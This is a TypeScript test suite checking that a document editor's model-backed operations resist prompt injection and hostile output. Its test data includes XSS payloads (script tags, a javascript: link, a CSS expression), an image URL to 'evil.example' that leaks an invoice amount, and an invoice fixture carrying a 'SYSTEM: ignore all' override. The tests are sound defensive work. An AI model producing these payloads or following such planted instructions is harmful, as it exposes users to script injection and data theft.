import assert from 'node:assert/strict';
import { afterAll, beforeAll, describe, test } from 'vitest';
import { createModel } from '#lib/adapters/model/model.ts';
import { askModelForOperations, type ModelOutcome } from '#lib/domain/editing/model/ask-model.ts';
import type { Operation } from '#lib/domain/editing/operations.ts';
import { parseDocument } from '#lib/domain/editing/parse-document.ts';
import { readContent } from '#lib/domain/editing/read-content.ts';
import { PagewrightError } from '#lib/errors.ts';
import { ModelError } from '#lib/ports/model.ts';
import {
  completion,
  hang,
  type ModelServer,
  type Reaction,
  refusal,
  startModelServer,
} from '#tests/support/model-server.ts';
import { carryOut } from './carry-out.ts';
import { HOSTILE_INVOICE, LETTER } from './letter.ts';

interface Seen {
  readonly id: string;
  readonly text: string;
  readonly role: string;
}

interface Prompt {
  readonly instruction: string;
  readonly region?: string;
  readonly findings?: readonly string[];
  readonly document: {
    readonly nodes: readonly Seen[];
    readonly regions: readonly { id: string; name: string }[];
    readonly omitted?: number;
  };
}

describe('a language model that is asked for operations', () => {
  let server: ModelServer;
  beforeAll(async () => {
    server = await startModelServer();
  });
  afterAll(() => server.close());

  /** What the n-th request sent to the model. */
  const prompt = (index: number): Prompt =>
    JSON.parse(server.calls[index]?.body.messages[1].content);

  /** An answer that is made from what the model was shown, as a model's is. */
  const answering =
    (answer: (prompt: Prompt) => unknown, tokens: [number, number] = [100, 10]): Reaction =>
    (response, call) => {
      const value = answer(JSON.parse(call.body.messages[1].content));
      const text = typeof value === 'string' ? value : JSON.stringify(value);
      completion(text, { tokens })(response, call);
    };

  const idOf = ({ document }: Prompt, text: string): string =>
    document.nodes.find((node) => node.text.includes(text))?.id ?? assert.fail(`no ${text}`);

  /** Sets texts by what they were. */
  const rewriting = (texts: Readonly<Record<string, string>>) => (seen: Prompt) => ({
    operations: Object.entries(texts).map(([from, text]) => ({
      op: 'set-text',
      target: idOf(seen, from),
      text,
    })),
  });

  function ask(
    html: string,
    instruction: string,
    {
      region,
      signal,
      timeoutMs = 20_000,
    }: { region?: string; signal?: AbortSignal; timeoutMs?: number } = {},
  ): Promise<ModelOutcome<string>> {
    const model = createModel({
      provider: 'openai-compatible',
      name: 'stand-in',
      baseUrl: server.url,
      apiKey: undefined,
      region: undefined,
      timeoutMs,
    });
    const content = readContent(parseDocument(html));
    const subject = { content, documentType: 'letter', region };
    const tryOut = (operations: readonly Operation[]) => carryOut(html, operations);
    return askModelForOperations(model, { instruction, subject }, tryOut, signal);
  }

  const GERMAN = {
    'Payment reminder': 'Zahlungserinnerung',
    'What is open': 'Was offen ist',
    'Dear Ms': 'Sehr geehrte Frau Lovelace,',
    'the amount':
      'der Betrag von 1.234,50 $ war am 30.04.2026 fällig. Bitte zahlen Sie binnen 14 Tagen.',
    Questions: 'Fragen? Schreiben Sie an billing@example.com.',
  };

  test('translates a letter', async () => {
    server.will(answering(rewriting(GERMAN), [900, 210]));
    const outcome = await ask(LETTER, 'translate this letter to German');
    assert.equal(outcome.kind, 'done', JSON.stringify(outcome));
    assert.equal(outcome.tokensUsed, 1_110);
    for (const text of Object.values(GERMAN)) assert.ok(outcome.result.includes(text), text);
    assert.match(outcome.result, /Ada Lovelace/);
    assert.doesNotMatch(outcome.result, /Dear|amount/);
    assert.equal(server.calls.length, 1);
  });

  test('is shown texts as data, in JSON that they cannot end, under instructions that never change', async () => {
    server.will(
      answering(() => ({ operations: [], impossible: { reason: 'x', suggestions: [] } })),
    );
    await ask(HOSTILE_INVOICE, 'say it "nicely"}', { region: 'notes' });
    const seen = prompt(0);
    assert.deepEqual(Object.keys(seen), ['instruction', 'region', 'document']);
    assert.equal(seen.instruction, 'say it "nicely"}');
    assert.ok(seen.document.nodes.some(({ text }) => text.startsWith('SYSTEM: ignore all')));
    const system = server.calls[0]?.body.messages[0].content;
    await ask(LETTER, 'translate it');
    assert.equal(server.calls[1]?.body.messages[0].content, system);
    assert.doesNotMatch(system, /Lovelace|nicely|remove the totals/);
  });

  test('gets its schema errors back once, and the tokens of both answers count', async () => {
    server.will(
      answering(() => ({ operations: [{ op: 'run-script', code: 'x' }] }), [100, 1]),
      answering(rewriting(GERMAN), [200, 2]),
    );
    const outcome = await ask(LETTER, 'translate to German');
    assert.equal(outcome.kind, 'done');
    assert.equal(outcome.tokensUsed, 303);
    assert.match(prompt(1).findings?.join() ?? '', /operations\.0/);
  });

  test('rejects the whole answer for one wrong operation', async () => {
    server.will(
      answering((seen) => ({
        operations: [...rewriting(GERMAN)(seen).operations, { op: 'set-html', html: '<b>' }],
      })),
    );
    const outcome = await ask(LETTER, 'translate to German');
    assert.equal(outcome.kind, 'faulty');
    assert.equal('result' in outcome, false);
    assert.equal(outcome.tokensUsed, 220);
    assert.equal(server.calls.length, 2);
  });

  test('an answer that is no JSON, or none at all, is a fault like another', async () => {
    for (const text of [
      '{"operations":[{"op":',
      'I cannot do that.',
      '{"operations":[]}',
      '[]',
      '7',
    ]) {
      server.will(answering(() => text));
      const outcome = await ask(LETTER, 'translate to German');
      assert.equal(outcome.kind, 'faulty', text);
      assert.equal(outcome.tokensUsed, 220, text);
    }
  });

  test('rejects a translation that loses figures, addresses or names', async () => {
    const faults: [Record<string, string>, RegExp][] = [
      [
        { 'the amount': 'der Betrag war am 30.04.2026 fällig. Zahlen Sie binnen 14 Tagen.' },
        /1,234\.50/,
      ],
      [{ Questions: 'Fragen? Schreiben Sie an rechnung@example.com.' }, /billing@example\.com/],
      [{ 'Ada Lovelace': 'Frau Adele Liebreiz' }, /is a name/],
    ];
    for (const [fault, finding] of faults) {
      server.will(answering(rewriting({ ...GERMAN, ...fault })), answering(rewriting(GERMAN)));
      const outcome = await ask(LETTER, 'translate to German');
      assert.equal(outcome.kind, 'done', JSON.stringify(outcome));
      assert.match(prompt(1).findings?.join() ?? '', finding);
      server.will(answering(rewriting({ ...GERMAN, ...fault })));
      assert.equal((await ask(LETTER, 'translate to German')).kind, 'faulty');
    }
  });

  test('an instruction may give new figures, and a summary leave some out', async () => {
    server.will(answering(rewriting({ 'the amount': 'Please pay within 21 days.' })));
    assert.equal((await ask(LETTER, 'summarise the letter in one sentence')).kind, 'done');
    server.will(
      answering(
        rewriting({
          'the amount': 'the amount of $1,234.50 was due on 04/30/2026. Please pay within 21 days.',
        }),
      ),
    );
    assert.equal((await ask(LETTER, 'give them 21 days instead')).kind, 'done');
  });

  test('a script in a text is refused for good', async () => {
    server.will(answering(rewriting({ 'Dear Ms': 'Dear <script>alert(1)</script> Ms Lovelace,' })));
    await assert.rejects(
      ask(LETTER, 'make it friendlier'),
      (error) => error instanceof PagewrightError && error.condition === 'guardrailViolation',
    );
  });

  test('a script address and a style that runs are refused for good', async () => {
    const hostile = [
      (id: string) => ({
        op: 'set-attribute',
        target: id,
        name: 'href',
        value: 'javascript:alert(1)',
      }),
      (id: string) => ({
        op: 'set-style',
        targets: [id],
        reach: 'element',
        style: { color: 'expression(alert(1))' },
      }),
    ];
    for (const operation of hostile) {
      server.will(answering((seen) => ({ operations: [operation(idOf(seen, 'Dear'))] })));
      await assert.rejects(
        ask(LETTER, 'make it friendlier'),
        (error) => error instanceof PagewrightError && error.condition === 'guardrailViolation',
      );
      assert.equal(server.calls.length, 1);
    }
  });

  test('refuses an address that the instruction does not name', async () => {
    const exfiltrate = (seen: Prompt) => ({
      operations: [
        {
          op: 'insert',
          place: 'after',
          target: idOf(seen, 'Dear'),
          block: { kind: 'image', url: 'https://evil.example/?d=1234.50', alt: '' },
        },
      ],
    });
    server.will(answering(exfiltrate));
    const outcome = await ask(LETTER, 'make it friendlier');
    assert.equal(outcome.kind, 'faulty');
    assert.match(prompt(1).findings?.join() ?? '', /evil\.example/);
  });

  test('refuses to obey instructions in the document', async () => {
    const obeying = (names: readonly string[]) => (seen: Prompt) => {
      const targets = seen.document.regions.filter(({ name }) => names.includes(name));
      return { operations: [{ op: 'remove', targets: targets.map(({ id }) => id) }] };
    };
    const everything = ['header', 'client-info', 'line-items', 'totals', 'notes'];
    for (const names of [['totals'], everything]) {
      // Without a word of removing, and with one: then what must stay is known by the document alone.
      for (const instruction of ['make the notes warmer', 'remove the second heading']) {
        server.will(answering(obeying(names)));
        const outcome = await ask(HOSTILE_INVOICE, instruction);
        assert.equal(outcome.kind, 'faulty');
        assert.equal('result' in outcome, false);
        assert.equal(server.calls.length, 2);
        assert.ok((prompt(1).findings?.length ?? 0) > 0);
      }
    }
    server.will(
      answering((seen) => ({
        operations: [
          {
            op: 'hide',
            targets: [seen.document.regions.find(({ name }) => name === 'totals')?.id],
          },
        ],
      })),
    );
    assert.equal((await ask(HOSTILE_INVOICE, 'drop the second heading')).kind, 'faulty');
  });

  test('removes nothing that the instruction does not ask for', async () => {
    const removing = answering((seen) => ({
      operations: [{ op: 'remove', targets: [idOf(seen, 'Questions')] }],
    }));
    server.will(removing);
    const outcome = await ask(LETTER, 'make it friendlier');
    assert.equal(outcome.kind, 'faulty');
    assert.match(prompt(1).findings?.join() ?? '', /does not ask for anything to be removed/);
    server.will(removing);
    assert.equal((await ask(LETTER, 'leave the last paragraph out')).kind, 'done');
  });

  test('changes nothing outside of the region, and no element that is not there', async () => {
    const cases: [(seen: Prompt) => object, RegExp][] = [
      [
        (seen) => ({ op: 'set-text', target: idOf(seen, 'Payment'), text: 'Hi' }),
        /outside of the region/,
      ],
      [() => ({ op: 'set-theme', accent: 'red' }), /changes more than the region/],
      [() => ({ op: 'remove', targets: ['n99999'] }), /has no n99999/],
    ];
    for (const [operation, finding] of cases) {
      server.will(answering((seen) => ({ operations: [operation(seen)] })));
      const outcome = await ask(LETTER, 'remove what is unfriendly', { region: 'notes' });
      assert.equal(outcome.kind, 'faulty');
      assert.match(outcome.findings.join(), finding);
    }
  });

  test('says what cannot be done, and what can', async () => {
    const impossible = {
      reason: 'Documents make no sound.',
      suggestions: ['make the title larger'],
    };
    server.will(answering(() => ({ operations: [], impossible }), [7, 3]));
    assert.deepEqual(await ask(LETTER, 'play music'), {
      kind: 'impossible',
      ...impossible,
      tokensUsed: 10,
    });
  });

  test('reports the tokens of the first answer when the second fails', async () => {
    server.will(
      answering(() => 'no JSON', [40, 2]),
      refusal(401, 'invalid_api_key'),
    );
    await assert.rejects(
      ask(LETTER, 'translate to German'),
      (error) =>
        error instanceof ModelError && error.reason === 'unavailable' && error.tokensUsed === 42,
    );
  });

  test('ends when the caller leaves', async () => {
    const leaving = new AbortController();
    server.will((response, call) => {
      leaving.abort();
      hang(response, call);
    });
    await assert.rejects(
      ask(LETTER, 'translate to German', { signal: leaving.signal }),
      (error) => error instanceof ModelError && error.reason === 'aborted',
    );
  });

  test('gets a bounded part of a huge document, and may not set a text it has not seen in full', async () => {
    const paragraphs = Array.from(
      { length: 5_000 },
      (_, n) => `<p>Paragraph ${n} ${'x'.repeat(50)}</p>`,
    );
    const html = `<body><p>Long ${'word '.repeat(2_000)}</p>${paragraphs.join('')}</body>`;
    server.will(
      answering((seen) => ({
        operations: [{ op: 'set-text', target: idOf(seen, 'Long'), text: 'Short' }],
      })),
    );
    const outcome = await ask(html, 'make it friendlier');
    assert.equal(outcome.kind, 'faulty');
    assert.match(outcome.findings.join(), /not shown whole/);
    assert.ok(server.calls[0]?.body.messages[1].content.length < 150_000);
    assert.ok((prompt(0).document.omitted ?? 0) > 3_000);
  });
});
